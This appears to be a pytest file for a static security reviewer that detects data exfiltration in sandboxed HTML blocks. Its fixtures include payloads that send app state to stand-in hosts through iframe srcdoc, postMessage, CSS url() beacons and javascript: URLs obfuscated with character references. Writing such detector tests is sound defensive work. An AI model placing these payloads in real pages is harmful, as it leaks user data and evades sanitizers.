"""An <iframe srcdoc> in a block: its document loads (frame-src governs fetched frames only) under
the block's own policy and sandbox, so the static layer reads it as part of the block: its markup's
findings placed inside the attribute, its scripts joined to the block's, and a srcdoc written by a
script an HTML sink like innerHTML. The browsers' side: the corpus block exfil_srcdoc_frame."""

from __future__ import annotations

import html
import time

from flowui_sandbox.sandbox.review import review_static


def rules(source: str, fields=("c.name",)) -> dict[str, list]:
    out: dict[str, list] = {}
    for f in review_static(source, fields=list(fields)):
        out.setdefault(f.rule, []).append(f)
    return out


def test_what_a_srcdoc_document_loads_is_the_block_s_at_its_place_in_the_attribute():
    source = '<p>x</p>\n<iframe title="t" srcdoc="<p>hi</p><img src=https://px.example/a.gif>"></iframe>'
    found = rules(source)
    assert "blocked.nested-frame" not in found
    [external] = found["url.external"]
    assert external.hosts == ["px.example"] and "<iframe srcdoc>" in external.message
    line, column = external.line, external.column
    assert source.splitlines()[line - 1][column - 1:].startswith("https://px.example/a.gif")


def test_a_srcdoc_written_with_character_references_is_read_as_the_browser_reads_it():
    inner = "<img src='https://px.example/b.gif'>"
    source = f'<iframe srcdoc="{html.escape(inner)}"></iframe>'
    [external] = rules(source)["url.external"]
    assert external.hosts == ["px.example"] and external.line == 1 and external.column >= len('<iframe srcdoc="')


def test_state_posted_to_a_srcdoc_frame_is_followed_into_what_it_sends():
    source = ("<iframe id=f srcdoc=\"<script>onmessage = (e) => { new Image().src = 'https://px.example/?' + e.data; };"
              "</script>\"></iframe><script>f.onload = () => f.contentWindow.postMessage(flowUi.get('c.name'), '*');</script>")
    [leak] = rules(source)["exfil.state-to-url"]
    assert leak.paths == ["c.name"] and leak.hosts == ["px.example"]


def test_a_srcdoc_set_by_a_script_is_markup_the_block_writes():
    for write in ("f.srcdoc = '<img src=\"https://px.example/?' + flowUi.get('c.name') + '\">';",
                  "f.setAttribute('srcdoc', '<img src=https://px.example/?' + flowUi.get('c.name') + '>');"):
        found = rules(f"<iframe id=f></iframe><script>{write}</script>")
        assert [f.paths for f in found["exfil.state-to-url"]] == [["c.name"]], write
        # The frame in the markup names nothing that loads; its message says a script's srcdoc would.
        assert "srcdoc" in found["blocked.nested-frame"][0].message


def test_srcdoc_documents_nested_in_each_other_are_read_to_the_last_in_bounded_time():
    inner = "<img src=https://deep.example/x.gif>"
    for _ in range(40):
        inner = f'<iframe srcdoc="{html.escape(inner)}"></iframe>'
    started = time.monotonic()
    found = rules(inner)
    assert [f.hosts for f in found["url.external"]] == [["deep.example"]]
    assert time.monotonic() - started < 2


def test_a_src_frame_still_loads_nothing():
    found = rules('<iframe src="https://px.example/frame.html"></iframe>')
    assert "url.external" not in found and len(found["blocked.nested-frame"]) == 1


def test_css_in_a_srcdoc_document_is_read_as_the_block_s_css():
    style = "<style>input[value$=a]{background:url(https://css.example/a)}@font-face{font-family:f;src:url(https://css.example/f)}</style>"
    found = rules(f'<iframe srcdoc="{html.escape(style)}<input>"></iframe>')
    assert {h for f in found["url.external"] for h in f.hosts} == {"css.example"}


def test_the_code_of_a_javascript_url_is_the_block_s_script():
    """WebKitGTK runs a clicked link's javascript: URL and Chromium a frame's javascript: src (the
    policy's 'unsafe-inline' allows them; measured with review's browser layer): the code is read as
    the block's script, not called a URL that never loads."""
    for markup in ('<a href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
                   '<iframe src="javascript:void(new Image().src=\'https://js.example/?\'+%20flowUi.get(\'c.name\'))"></iframe>',
                   '<svg><a xlink:href="javascript:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')"><text>go</text></a></svg>',
                   # The URL standard drops tabs and newlines and strips controls around it (WebKitGTK ran both).
                   '<a href="java&#9;script:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>',
                   '<a href=" &#10;JavaScript&#13;:new Image().src=\'https://js.example/?\'+flowUi.get(\'c.name\')">go</a>'):
        found = rules(markup)
        assert [f.paths for f in found["exfil.state-to-url"]] == [["c.name"]], markup
        assert "url.blocked-scheme" not in found and "blocked.nested-frame" not in found, markup
